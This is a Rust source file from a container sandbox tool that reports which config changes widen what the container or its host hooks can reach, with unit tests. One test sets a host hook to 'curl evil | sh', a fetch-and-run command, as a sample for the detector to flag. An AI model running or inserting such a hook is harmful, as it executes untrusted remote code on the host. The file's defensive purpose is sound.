//! Which config changes widen what the container or the host hooks may do, in plain words.
//! Everything here is pure: it compares two effective configs.

use std::collections::{BTreeMap, BTreeSet};

use alca_contract::internet::{parse_internet_access, InternetAccess};
use alca_contract::lan::parse_lan_entry;

use super::Widening;
use crate::config::fields::caps::{LINUX_CAPS, RUNTIME_DEFAULT_CAPS};
use crate::config::fields::resources::memory_bytes;
use crate::config::{Caps, Config};

/// Lists every change from `old` to `new` that gives the container or the host hooks more reach.
pub fn widenings(old: &Config, new: &Config) -> Vec<Widening> {
    let mut out = Vec::new();
    let mut push = |field, detail: String| out.push(Widening { field, detail });
    if old.image != new.image {
        push("image", format!("{:?} → {:?}", old.image, new.image));
    }
    if old.runtime != new.runtime {
        push("runtime", format!("{:?} → {:?}", old.runtime, new.runtime));
    }
    for (field, a, b) in [
        ("hooks.post_up", &old.hooks.post_up, &new.hooks.post_up),
        ("hooks.pre_down", &old.hooks.pre_down, &new.hooks.pre_down),
    ] {
        if let Some(cmd) = b.as_ref().filter(|b| Some(*b) != a.as_ref()) {
            push(field, format!("runs on the host: {cmd}"));
        }
    }
    for source in new.sources.iter().filter(|s| !old.sources.contains(s)) {
        push(
            "config files",
            format!(
                "loads {} (a config file that is new or moved)",
                source.display()
            ),
        );
    }
    mount_widenings(old, new, &mut push);
    for pattern in removed(&old.workdir_exclude, &new.workdir_exclude) {
        push("workdir_exclude", format!("no longer hides {pattern:?}"));
    }
    for pattern in added_negations(&old.workdir_exclude, &new.workdir_exclude) {
        push("workdir_exclude", format!("un-hides with {pattern:?}"));
    }
    let caps = added(&effective_caps(&old.caps), &effective_caps(&new.caps));
    match caps.as_slice() {
        [] => {}
        [one] => push("caps", format!("adds capability {one}")),
        many => push("caps", format!("adds capabilities {}", many.join(", "))),
    }
    env_widenings(old, new, &mut push);
    resource_widenings(old, new, &mut push);
    for port in added(&port_set(old), &port_set(new)) {
        push("ports", format!("publishes {port}"));
    }
    let (old_lan, new_lan) = (lan_entries(old), lan_entries(new));
    for (canonical, raw) in &new_lan {
        if !old_lan.contains_key(canonical) {
            push("network.lan-access", format!("allows {raw:?}"));
        }
    }
    if old.network.proxy_raw != new.network.proxy_raw {
        push(
            "network.proxy",
            format!("{:?} → {:?}", old.network.proxy_raw, new.network.proxy_raw),
        );
    }
    internet_widenings(old, new, &mut push);
    out
}

/// A new `internet-access` entry (or `"*"`), any other DNS upstream (it decides which addresses
/// the allowed names resolve to) and any change of the TTL floor are widenings. A higher floor
/// keeps an answered address open longer; a lower one is counted too (the task asked for it, and
/// asking once more for a narrowing costs one approval, never isolation).
fn internet_widenings(old: &Config, new: &Config, push: &mut impl FnMut(&'static str, String)) {
    let (o, n) = (&old.network, &new.network);
    let entries = |raw: &[String]| -> Option<BTreeSet<String>> {
        match parse_internet_access(raw) {
            Ok(InternetAccess::Everything) => None,
            Ok(InternetAccess::Only(list)) => Some(list.iter().map(|e| e.to_string()).collect()),
            // Not loadable (an old record): every entry counts as new.
            Err(_) => Some(BTreeSet::new()),
        }
    };
    match (
        entries(&o.internet_access_raw),
        entries(&n.internet_access_raw),
    ) {
        (None, _) => {}
        (Some(_), None) => push("network.internet-access", "allows \"*\"".to_string()),
        (Some(before), Some(after)) => {
            for entry in added(&before, &after) {
                push("network.internet-access", format!("allows {entry:?}"));
            }
        }
    }
    if o.dns_upstream != n.dns_upstream {
        let show = |v: &[std::net::SocketAddr]| match v {
            [] => "the host's resolvers".to_string(),
            v => v
                .iter()
                .map(|a| a.to_string())
                .collect::<Vec<_>>()
                .join(", "),
        };
        push(
            "network.dns-upstream",
            format!("{} → {}", show(&o.dns_upstream), show(&n.dns_upstream)),
        );
    }
    if n.dns_ttl_floor != o.dns_ttl_floor {
        push(
            "network.dns-ttl-floor",
            format!(
                "answered addresses stay allowed at least {} s (was {} s)",
                n.dns_ttl_floor, o.dns_ttl_floor
            ),
        );
    }
}

fn mount_widenings(old: &Config, new: &Config, push: &mut impl FnMut(&'static str, String)) {
    for m in &new.mounts {
        let before = old
            .mounts
            .iter()
            .find(|o| o.source == m.source && o.target == m.target);
        match before {
            None => push(
                "mounts",
                format!(
                    "mounts host {} at {}{}",
                    m.source.display(),
                    m.target,
                    if m.readonly {
                        " (read-only)"
                    } else {
                        " (read-write)"
                    }
                ),
            ),
            Some(o) => {
                if o.readonly && !m.readonly {
                    push("mounts", format!("{} becomes writable", m.target));
                }
                for pattern in removed(&o.exclude, &m.exclude) {
                    push(
                        "mounts",
                        format!("{} no longer hides {pattern:?}", m.target),
                    );
                }
                for pattern in added_negations(&o.exclude, &m.exclude) {
                    push("mounts", format!("{} un-hides with {pattern:?}", m.target));
                }
            }
        }
    }
}

/// A new variable or a changed template can copy a host secret into the container.
fn env_widenings(old: &Config, new: &Config, push: &mut impl FnMut(&'static str, String)) {
    for (key, var) in &new.envs {
        match old.envs.get(key) {
            None => push("envs", format!("sets {key} = {:?}", var.template)),
            Some(o) if o.template != var.template => push(
                "envs",
                format!("{key}: {:?} → {:?}", o.template, var.template),
            ),
            Some(_) => {}
        }
    }
}

fn resource_widenings(old: &Config, new: &Config, push: &mut impl FnMut(&'static str, String)) {
    let (om, nm) = (&old.resources.memory, &new.resources.memory);
    if om.is_some() && om != nm {
        let grows = match (
            om.as_deref().and_then(memory_bytes),
            nm.as_deref().and_then(memory_bytes),
        ) {
            (Some(a), Some(b)) => b > a,
            _ => true,
        };
        if grows {
            push("resources.memory", format!("{om:?} → {nm:?}"));
        }
    }
    let (oc, nc) = (old.resources.cpus, new.resources.cpus);
    if let Some(a) = oc {
        if nc.is_none_or(|b| b > a) {
            push("resources.cpus", format!("{oc:?} → {nc:?}"));
        }
    }
}

/// The capabilities a container ends up with for a `{drop, add}` pair: the runtime's default
/// set less `drop` (nothing when `drop` names ALL), plus `add`.
/// Names are already normalised by the loader (`config::fields::caps::normalise`).
pub fn effective_caps(caps: &Caps) -> BTreeSet<String> {
    let drop: BTreeSet<&str> = caps.drop.iter().map(String::as_str).collect();
    let add: BTreeSet<String> = caps.add.iter().cloned().collect();
    let base: BTreeSet<String> = if drop.contains("ALL") {
        BTreeSet::new()
    } else {
        RUNTIME_DEFAULT_CAPS
            .iter()
            .filter(|c| !drop.contains(*c))
            .map(|c| c.to_string())
            .collect()
    };
    if add.contains("ALL") {
        return LINUX_CAPS.iter().map(|c| c.to_string()).collect();
    }
    base.union(&add).cloned().collect()
}

fn port_set(c: &Config) -> BTreeSet<String> {
    c.ports
        .iter()
        .map(|p| {
            // The address the runtime is really given: loopback when the config names none.
            let ip = p
                .host_ip
                .unwrap_or(crate::runtime::args::DEFAULT_PUBLISH_IP)
                .to_string();
            let host = p
                .host_port
                .map(|p| p.to_string())
                .unwrap_or_else(|| "*".into());
            format!("{ip}:{host} → {}/{:?}", p.container_port, p.proto).to_lowercase()
        })
        .collect()
}

/// lan-access entries by canonical form (parsed when possible, raw otherwise), each with the
/// text as written.
fn lan_entries(c: &Config) -> BTreeMap<String, &str> {
    c.network
        .lan_access_raw
        .iter()
        .map(|raw| {
            let canonical = match parse_lan_entry(raw) {
                Ok(entry) => format!("{entry:?}"),
                Err(_) => raw.clone(),
            };
            (canonical, raw.as_str())
        })
        .collect()
}

fn added<T: Ord + Clone>(old: &BTreeSet<T>, new: &BTreeSet<T>) -> Vec<T> {
    new.difference(old).cloned().collect()
}

/// `!pattern` lines in `new` that `old` lacks: a negation re-includes what was hidden.
fn added_negations(old: &[String], new: &[String]) -> Vec<String> {
    new.iter()
        .filter(|p| p.trim_start().starts_with('!') && !old.contains(p))
        .cloned()
        .collect()
}

fn removed(old: &[String], new: &[String]) -> Vec<String> {
    old.iter().filter(|p| !new.contains(p)).cloned().collect()
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use crate::config::{Mount, Network};
    use crate::trust::{assess, Verdict};

    pub(crate) fn base() -> Config {
        Config {
            image: "alpine:latest".into(),
            workdir: "/workspace".into(),
            workdir_exclude: vec!["**/.env".into()],
            runtime: Default::default(),
            mounts: vec![Mount {
                source: "/data".into(),
                target: "/data".into(),
                readonly: true,
                exclude: vec![],
            }],
            commands: Default::default(),
            resources: Default::default(),
            envs: Default::default(),
            caps: Caps::default(),
            ports: vec![],
            network: Network::default(),
            hooks: Default::default(),
            sources: vec![],
        }
    }

    fn fields(old: &Config, new: &Config) -> Vec<&'static str> {
        widenings(old, new).into_iter().map(|w| w.field).collect()
    }

    #[test]
    fn identical_configs_are_trusted_and_new_ones_are_new() {
        assert_eq!(assess(Some(&base()), &base()), Verdict::Trusted);
        assert_eq!(assess(None, &base()), Verdict::New);
    }

    #[test]
    fn host_hooks_widen() {
        let mut new = base();
        new.hooks.post_up = Some("curl evil | sh".into());
        assert_eq!(fields(&base(), &new), ["hooks.post_up"]);
        let mut old = base();
        old.hooks.pre_down = Some("echo bye".into());
        assert!(fields(&old, &base()).is_empty(), "removing a hook narrows");
    }

    /// Issue #22 item 6: each trick is a widening.
    #[test]
    fn negations_bind_addresses_and_new_config_files_widen() {
        let mut old = base();
        old.workdir_exclude = vec!["**/.env".into()];
        old.sources = vec!["/p/.alca.toml".into()];
        let mut new = old.clone();
        new.workdir_exclude.push("!.env".into());
        assert_eq!(fields(&old, &new), ["workdir_exclude"]);
        assert!(widenings(&old, &new)[0].detail.contains("un-hides"));

        let mut new = old.clone();
        new.sources.push("/p/.alca.agent.toml".into());
        assert_eq!(fields(&old, &new), ["config files"]);
        let mut moved = old.clone();
        moved.sources = vec!["/p/conf2/.alca.toml".into()];
        assert_eq!(fields(&old, &moved), ["config files"]);
        assert!(
            fields(&new, &old).is_empty(),
            "dropping a file is judged by its effect"
        );

        let port = |ip: Option<&str>| crate::config::Port {
            host_ip: ip.map(|i| i.parse().unwrap()),
            host_port: Some(8080),
            container_port: 80,
            proto: crate::config::PortProto::Tcp,
        };
        let mut a = base();
        a.ports = vec![port(None)];
        let mut b = a.clone();
        b.ports = vec![port(Some("0.0.0.0"))];
        assert_eq!(fields(&a, &b), ["ports"], "8080:80 -> 0.0.0.0:8080:80");
        b.ports = vec![port(Some("127.0.0.1"))];
        assert!(fields(&a, &b).is_empty(), "the default is loopback");

        let mut m_old = base();
        m_old.mounts[0].exclude = vec!["*.key".into()];
        let mut m_new = m_old.clone();
        m_new.mounts[0].exclude.push("!id.key".into());
        assert_eq!(fields(&m_old, &m_new), ["mounts"]);
    }

    #[test]
    fn mounts_widen_when_added_made_writable_or_unfiltered() {
        let mut new = base();
        new.mounts.push(Mount {
            source: "/".into(),
            target: "/host".into(),
            readonly: false,
            exclude: vec![],
        });
        assert_eq!(fields(&base(), &new), ["mounts"]);
        let mut new = base();
        new.mounts[0].readonly = false;
        assert_eq!(fields(&base(), &new), ["mounts"]);
        let mut old = base();
        old.mounts[0].exclude = vec!["*.key".into()];
        assert_eq!(fields(&old, &base()), ["mounts"]);
        let mut new = base();
        new.mounts.clear();
        assert!(fields(&base(), &new).is_empty(), "removing a mount narrows");
    }

    #[test]
    fn caps_widen_only_when_the_effective_set_grows() {
        let mut new = base();
        new.caps.add.push("SYS_ADMIN".into());
        assert_eq!(
            widenings(&base(), &new)[0].detail,
            "adds capability SYS_ADMIN"
        );
        let mut narrower = base();
        narrower.caps.add.retain(|c| c != "KILL");
        assert!(fields(&base(), &narrower).is_empty());
        let mut verbatim = base();
        verbatim.caps = Caps {
            drop: vec![],
            add: vec![],
        };
        assert!(
            fields(&base(), &verbatim).contains(&"caps"),
            "dropping nothing keeps the runtime's default set"
        );
        // What is shown is the set the container gets: the runtime's defaults less the drop,
        // never every capability Linux has.
        let kept: Vec<String> = effective_caps(&Caps {
            drop: vec!["NET_RAW".into()],
            add: vec![],
        })
        .into_iter()
        .collect();
        assert_eq!(kept.len(), 13);
        assert!(!kept.contains(&"NET_RAW".to_string()));
        assert!(!kept.contains(&"SYS_ADMIN".to_string()));
    }

    #[test]
    fn network_and_excludes_widen() {
        let mut new = base();
        new.network.lan_access_raw = vec!["*".into()];
        assert_eq!(
            widenings(&base(), &new)[0].to_string(),
            "network.lan-access: allows \"*\""
        );
        let mut new = base();
        new.network.proxy_raw = Some("10.0.0.1:3128".into());
        assert_eq!(fields(&base(), &new), ["network.proxy"]);
        let mut new = base();
        new.workdir_exclude.clear();
        assert_eq!(fields(&base(), &new), ["workdir_exclude"]);
        let mut new = base();
        new.workdir_exclude.push("**/*.pem".into());
        assert!(fields(&base(), &new).is_empty(), "more excludes narrow");
    }

    #[test]
    fn internet_access_widens_on_a_new_entry_a_star_an_upstream_or_a_floor() {
        let with = |list: &[&str]| {
            let mut c = base();
            c.network.internet_access_raw = list.iter().map(|s| s.to_string()).collect();
            c
        };
        let old = with(&["github.com", "*.wild.test:443"]);
        assert!(
            fields(&base(), &old).is_empty(),
            "from open to a list narrows"
        );
        assert!(
            fields(&old, &with(&["GitHub.com."])).is_empty(),
            "same entry, other spelling"
        );
        let w = widenings(&old, &with(&["github.com", "blocked.test"]));
        assert_eq!(w.len(), 1);
        assert_eq!(
            w[0].to_string(),
            "network.internet-access: allows \"blocked.test\""
        );
        assert_eq!(
            widenings(&old, &with(&["*"]))[0].to_string(),
            "network.internet-access: allows \"*\""
        );
        assert_eq!(
            fields(&old, &with(&["*.wild.test"])),
            ["network.internet-access"],
            "every port is wider than one"
        );
        let mut up = old.clone();
        up.network.dns_upstream = vec!["192.0.2.53:53".parse().unwrap()];
        assert_eq!(
            widenings(&old, &up)[0].to_string(),
            "network.dns-upstream: the host's resolvers → 192.0.2.53:53"
        );
        let mut floor = old.clone();
        floor.network.dns_ttl_floor = 0;
        assert_eq!(fields(&old, &floor), ["network.dns-ttl-floor"]);
    }

    #[test]
    fn image_runtime_and_resources() {
        let mut old = base();
        old.resources.memory = Some("512m".into());
        old.resources.cpus = Some(1.0);
        let mut new = old.clone();
        new.resources.memory = Some("256m".into());
        new.resources.cpus = Some(0.5);
        assert!(fields(&old, &new).is_empty());
        new.resources.memory = None;
        new.resources.cpus = Some(4.0);
        assert_eq!(fields(&old, &new), ["resources.memory", "resources.cpus"]);
        let mut new = base();
        new.image = "evil:latest".into();
        new.runtime = crate::config::RuntimeChoice::Podman;
        assert_eq!(fields(&base(), &new), ["image", "runtime"]);
    }
}
